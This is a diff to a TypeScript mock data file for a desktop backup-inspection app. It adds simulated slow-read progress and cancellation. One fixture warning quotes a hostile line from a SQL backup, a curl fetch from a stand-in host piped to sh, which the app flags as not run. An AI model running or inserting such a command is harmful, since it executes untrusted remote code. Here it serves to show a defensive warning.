@@ -1,4 +1,5 @@
-import type { BundleTableView, InspectFiles, InspectionView, UserError } from '../bindings';
+import type { Channel } from '@tauri-apps/api/core';
+import type { BundleTableView, InspectFiles, InspectionView, LookProgress, UserError } from '../bindings';
 import { NOW } from './projects';
 
 const DAY = 86_400_000;
@@ -45,7 +46,7 @@ export const inspection: InspectionView = {
     { level: 'warning', title: 'Not authenticated', words: 'This kind of encryption cannot show changes. The checksums below can.' },
     { level: 'good', title: 'Checksums', words: '4 of 4 components match their SHA-256' },
     { level: 'good', title: 'Readable', words: 'the archive lists 39 tables; every part was opened' },
-    { level: 'danger', title: 'Shell command', words: '`roles.sql`, line 12: `\\! curl…` would run a program. It was not run and is left out of a restore.' },
+    { level: 'danger', title: 'Shell command', words: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.' },
   ],
   belongsTo: { projectId: 'p-shop-prod', project: 'shop-prod', why: '38 of 39 tables are known there' },
   backupId: null,
@@ -77,3 +78,13 @@ function look(path: string, passphrase: string | null): InspectionView {
 }
 
 export const inspect = ({ paths, passphrase }: InspectFiles): InspectionView[] => paths.map((path) => look(path, passphrase));
+
+/** How each look that goes on is ended. */
+export type Looks = Map<string, () => void>;
+
+/** A file called `slow`, or opened by a slow passphrase, stands at 41 % until its look is ended; the others are read at once. */
+export async function slowly({ paths, passphrase, look: id }: InspectFiles, onProgress: Channel<LookProgress>, looks: Looks): Promise<void> {
+  if (!paths.some((path) => nameOf(path).includes('slow')) && passphrase?.startsWith('slow') !== true) return;
+  onProgress.onmessage({ bytes: 1_275_100_000, bytesTotal: inspection.sizeBytes });
+  await new Promise((_, reject) => looks.set(id ?? '', () => reject({ code: 'cancelled', message: 'cancelled', hint: null, retry: 'now', reportId: '' } satisfies UserError)));
+}
